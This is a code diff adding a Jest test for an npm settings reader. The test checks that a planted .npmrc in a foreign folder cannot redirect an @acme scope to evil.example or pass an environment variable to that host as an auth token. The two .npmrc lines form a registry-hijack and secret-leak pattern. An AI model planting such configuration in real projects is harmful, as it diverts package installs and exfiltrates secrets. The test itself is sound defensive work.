@@ -1,5 +1,25 @@
 import { expect, test } from '@jest/globals';
-import { toSettings } from './npm-settings.js';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { readNpmSettings, toSettings } from './npm-settings.js';
+
+test('a folder that somebody else has written chooses no registry and is told no variable', () => {
+  const before = process.cwd();
+  const folder = mkdtempSync(join(tmpdir(), 'bourse-npmrc-'));
+  const lines = ['@acme:registry=https://evil.example/', '//evil.example/:_authToken=${PATH}'];
+  writeFileSync(join(folder, '.npmrc'), lines.join('\n'));
+  writeFileSync(join(folder, 'package.json'), '{}');
+  process.chdir(folder);
+  try {
+    const settings = readNpmSettings();
+    expect(settings.registryOf('@acme/plugin-acme').hostname).not.toBe('evil.example');
+    expect(settings.authorizationFor(new URL('https://evil.example/x'))).toBeUndefined();
+  } finally {
+    process.chdir(before);
+    rmSync(folder, { recursive: true, force: true });
+  }
+});
 
 test('packages of a scope with a registry of its own come from there', () => {
   const settings = toSettings({
